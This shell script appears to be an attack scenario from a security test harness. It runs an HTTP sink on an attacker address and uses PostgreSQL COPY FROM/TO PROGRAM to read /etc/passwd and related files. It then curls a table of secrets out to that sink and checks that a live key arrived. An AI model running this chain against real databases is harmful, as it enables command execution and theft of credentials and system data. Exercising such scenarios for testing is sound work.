# The attacker's sink: an HTTP server on their address that keeps what is
# POSTed to it.
python3 - "$SCN_PEER" "$SCN_ATTACKER/exfil.out" <<'PY' &
import http.server, sys
class Sink(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        data = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        open(sys.argv[2], "ab").write(data)
        self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
http.server.HTTPServer((sys.argv[1], 9000), Sink).serve_forever()
PY
sink=$!
trap 'kill $sink' EXIT
for _ in $(seq 100); do [ -n "$(ss -Hltn 'sport = :9000')" ] && break; sleep 0.1; done
PGPASSWORD=app-pass psql -h "$SCN_IP" -U app -d appdb -v ON_ERROR_STOP=1 >/dev/null <<SQL
CREATE TEMP TABLE loot (line text);
COPY loot FROM PROGRAM 'cat /etc/passwd /etc/group /etc/hostname';
COPY (SELECT name || '=' || value FROM secrets UNION ALL SELECT line FROM loot) TO PROGRAM 'curl -s -m 10 --data-binary @- http://$SCN_PEER:9000/';
SQL
grep -q sk-live "$SCN_ATTACKER/exfil.out"
